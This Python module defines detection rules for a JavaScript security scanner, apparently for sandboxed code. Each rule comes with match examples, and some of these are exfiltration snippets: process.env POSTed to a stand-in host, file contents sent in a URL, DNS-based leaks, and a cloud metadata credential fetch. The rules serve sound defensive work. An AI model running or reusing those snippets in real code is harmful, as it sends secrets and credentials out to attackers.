"""Rules: the network, and what is told to it."""

from __future__ import annotations

from engine.analysis.javascript.declare import HIGH, LOW, MEDIUM, SECRETS, rule
from engine.models import Confidence

NETWORK = rule(
    "js-network",
    "Talks to another machine",
    "net_access",
    MEDIUM,
    attack="Reports home, or fetches instructions.",
    why="MEDIUM: the sandbox has no network unless it is granted; LOW where the other end is this machine.",
    fix="Ask for the domain as a capability.",
    match=(
        "fetch('https://x.test/a')",
        "require('https').get('https://x.test')",
        "new WebSocket('wss://x.test')",
        "require('net').connect(80, 'x.test')",
        "import axios from 'axios'; axios.post(u, d)",
    ),
    not_match=("cache.fetch('a')", "map.get('https://x.test')", "const http = 1"),
    cwe=918,
)
LISTENER = rule(
    "js-listener",
    "Waits for connections",
    "net_access",
    MEDIUM,
    attack="Opens a door into the machine, or serves its files.",
    why="MEDIUM: nothing outside reaches the sandbox.",
    fix="Run no servers.",
    match=("require('http').createServer(f).listen(80)", "require('express')().listen(3000)"),
    not_match=("bus.listen(f)", "element.addEventListener('x', f)"),
    cwe=923,
)
EXFILTRATION = rule(
    "js-exfiltration",
    "Sends secrets or files away",
    "exfil_upload",
    HIGH,
    attack="Carries the environment, files or facts about the machine out to a server of the attacker's.",
    why="HIGH: what leaves does not come back.",
    fix="Leave results in the workspace, where they are collected.",
    match=(
        "fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) })",
        "require('https').get('https://x.test/?' + require('fs').readFileSync('a'))",
        "require('dns').lookup(require('os').hostname() + '.x.test', f)",
    ),
    not_match=(
        "fetch('https://x.test', { body: JSON.stringify({ a: 1 }) })",
        "console.log(process.env.HOME)",
    ),
    cwe=200,
    owasp=SECRETS,
)
METADATA = rule(
    "js-cloud-metadata",
    "Asks the cloud's metadata service",
    "secrets_env",
    HIGH,
    attack="Reads the credentials of the machine's own cloud role.",
    why="HIGH: the only thing of value there is credentials.",
    fix="Remove it.",
    match=("fetch('http://169.254.169.254/latest/meta-data/')",),
    not_match=("fetch('http://169.1.1.1/')",),
    cwe=918,
    owasp=SECRETS,
)
ENVIRONMENT = rule(
    "js-environment",
    "Reads the whole environment",
    "secrets_env",
    MEDIUM,
    attack="Collects every token that is passed in an environment variable.",
    why="MEDIUM: the sandbox's environment is built from nothing; LOW for a single variable.",
    fix="Read the one variable that is needed.",
    match=(
        "JSON.stringify(process.env)",
        "const all = { ...process.env }",
        "Object.keys(process.env)",
        "for (const k in process.env) f(k)",
        "console.log(process.env)",
    ),
    not_match=("process.env.HOME", "const { HOME } = process.env", "process.argv"),
    cwe=526,
    owasp=SECRETS,
)
HOST_FACTS = rule(
    "js-host-facts",
    "Collects facts about the machine or its user",
    "recon",
    MEDIUM,
    attack="Learns where it runs, to choose the next step or to report it.",
    why="MEDIUM: serialised or in numbers; LOW for one question.",
    fix="Ask only what is needed.",
    match=(
        "JSON.stringify(require('os').userInfo())",
        "const os = require('os'); [os.hostname(), os.userInfo(), os.networkInterfaces()]",
        "const { cpus } = require('os'); const s = JSON.stringify; s(cpus())",
    ),
    not_match=("require('path').join('a')", "require('os').EOL"),
    cwe=200,
    owasp=SECRETS,
)
TLS_OFF = rule(
    "js-tls-off",
    "Does not check who is at the other end",
    "vuln_lint",
    MEDIUM,
    attack="Lets anybody in between read and change what is sent.",
    why="MEDIUM: it needs a network that was granted, and somebody in between.",
    fix="Leave certificate checks on.",
    match=("https.get({ rejectUnauthorized: false })", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'"),
    not_match=("https.get({ rejectUnauthorized: true })", "x.rejectUnauthorized"),
    cwe=295,
)
WEAK_CRYPTO = rule(
    "js-weak-crypto",
    "Uses broken cryptography",
    "vuln_lint",
    MEDIUM,
    attack="Finds a second text with the same digest, or the key.",
    why="MEDIUM: it depends on what is protected.",
    fix="Use SHA-256 or better, AES-GCM, and crypto.randomBytes.",
    match=(
        "require('crypto').createHash('md5')",
        "crypto.createCipheriv('des-ecb', k, i)",
        "crypto.pseudoRandomBytes(8)",
    ),
    not_match=("crypto.createHash('sha256')", "crypto.randomBytes(8)"),
    cwe=327,
)
MARKUP = rule(
    "js-markup",
    "Writes text into a page as markup",
    "vuln_lint",
    LOW,
    attack="Runs script that is hidden in the text.",
    why="LOW: the sandbox has no page; MEDIUM where escaping is switched off.",
    fix="Use textContent.",
    match=("el.innerHTML = x", "document.write(x)", "engine.escapeMarkup = false"),
    not_match=("el.textContent = x", "el.innerHTML = ''"),
    cwe=79,
    confidence=Confidence.MEDIUM,
)
RULES = (
    NETWORK,
    LISTENER,
    EXFILTRATION,
    METADATA,
    ENVIRONMENT,
    HOST_FACTS,
    TLS_OFF,
    WEAK_CRYPTO,
    MARKUP,
)
